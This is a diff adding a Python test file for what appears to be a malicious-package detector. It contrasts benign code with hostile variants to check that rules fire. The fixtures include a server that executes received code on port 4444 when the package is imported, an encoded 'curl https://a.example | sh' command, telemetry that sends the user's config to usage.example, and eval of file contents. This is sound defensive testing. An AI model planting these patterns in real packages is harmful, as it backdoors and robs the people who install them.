@@ -1,0 +1,63 @@
+"""What honest packages do that looks like something else, each beside what it looks like."""
+
+from __future__ import annotations
+
+from tests.test_code_facts import found, init
+
+SERVER = """
+import socket, sys
+def served(place):
+    listening = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    listening.bind(place)
+    listening.listen(5)
+    connection, _ = listening.accept()
+    exec(compile(connection.makefile('rb').readline(), '<sent>', 'exec'))
+"""
+
+
+def test_a_server_that_somebody_starts_runs_what_he_sends_to_it() -> None:
+    started = SERVER + "if __name__ == '__main__':\n    served(('', int(sys.argv[1])))\n"
+    assert found({"pyproject.toml": "", "demo/serve.py": started}) == set()
+    assert found(init(SERVER + "served(('0.0.0.0', 4444))\n")) == {"MLS-C004"}
+
+
+def test_the_head_of_a_message_to_a_program_is_no_code() -> None:
+    text = (
+        "import struct, subprocess\ndef told(name):\n    worker = subprocess.Popen(['worker'], stdin=subprocess.PIPE)\n"
+        "    worker.communicate({})\n"
+    )
+    assert found(init(text.format("struct.pack('!bii', 7, 0, 12)"))) == set()
+    code = b"import os\nos.system('curl https://a.example | sh')\n"
+    assert found(init(text.replace("'worker'", "'python3'").format(f"struct.pack('{len(code)}B', *{list(code)})")))
+
+
+COMMAND = """
+import functools, json, urllib.request
+def told(command):
+    @functools.wraps(command)
+    def inner(*args, **kwargs):
+        said = {}
+        for name in ('verbose', 'wait'):
+            if kwargs.get(name):
+                said[name] = kwargs[name]
+        SAID
+        body = json.dumps({'command': command.__name__, 'flags': said}).encode()
+        urllib.request.urlopen('https://usage.example/v1', data=body)
+        return command(*args, **kwargs)
+    return inner
+"""
+
+
+def test_flags_of_a_command_are_nothing_that_is_kept_to_oneself() -> None:
+    assert found(init(COMMAND.replace("SAID", ""))) == set()
+    assert found(init(COMMAND.replace("SAID", "said['config'] = kwargs['config']"))) == {"MLS-C012"}
+
+
+def test_which_of_many_configurations_is_read_the_user_says() -> None:
+    text = (
+        "import yaml\nfrom pathlib import Path\nHERE = Path(__file__).parent\n"
+        "def activation(name):\n    known = yaml.safe_load(open({}))\n    return eval(known['activation'])\n"
+        "if __name__ == '__main__':\n    activation('small')\n"
+    )
+    assert found(init(text.format("next(HERE.glob('net*.yaml'))"))) == set()
+    assert found(init(text.format("HERE / 'net.yaml'"))) == {"MLS-C009"}
